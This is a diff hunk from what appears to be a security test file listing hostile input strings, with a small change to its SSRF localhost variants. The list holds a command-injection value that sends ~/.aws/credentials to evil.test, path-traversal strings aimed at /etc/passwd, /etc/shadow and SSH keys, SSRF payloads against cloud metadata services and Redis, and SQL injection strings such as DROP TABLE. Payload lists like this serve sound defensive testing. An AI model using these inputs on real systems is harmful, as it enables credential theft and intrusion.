@@ -23,7 +23,7 @@ def likely(text, key="q", setting=ARGUMENT):
         "$(curl http://evil.test/$(cat ~/.aws/credentials))",
         "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc", "....//....//etc/passwd",
         "/etc/shadow", "~/.ssh/id_rsa", "/proc/self/environ", "file:///etc/passwd",
-        "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://[::1]/", "http://2130706433/",
+        "http://169.254.169.254/latest/meta-data/", "http://2130706433/admin", "http://[::ffff:127.0.0.1]/", "http://2130706433/",
         "http://0x7f000001/", "gopher://127.0.0.1:6379/_x", "http://metadata.google.internal/computeMetadata/v1/",
         "http://[::ffff:169.254.169.254]/", "' OR '1'='1", "1 OR 1=1", "' OR 'a'='a' --", '" OR ""="', "x' AND 1=1 --",
         "1'; DROP TABLE users;--", "x' UNION SELECT password FROM users --", "1 UNION SELECT a,b FROM t", "admin'--",
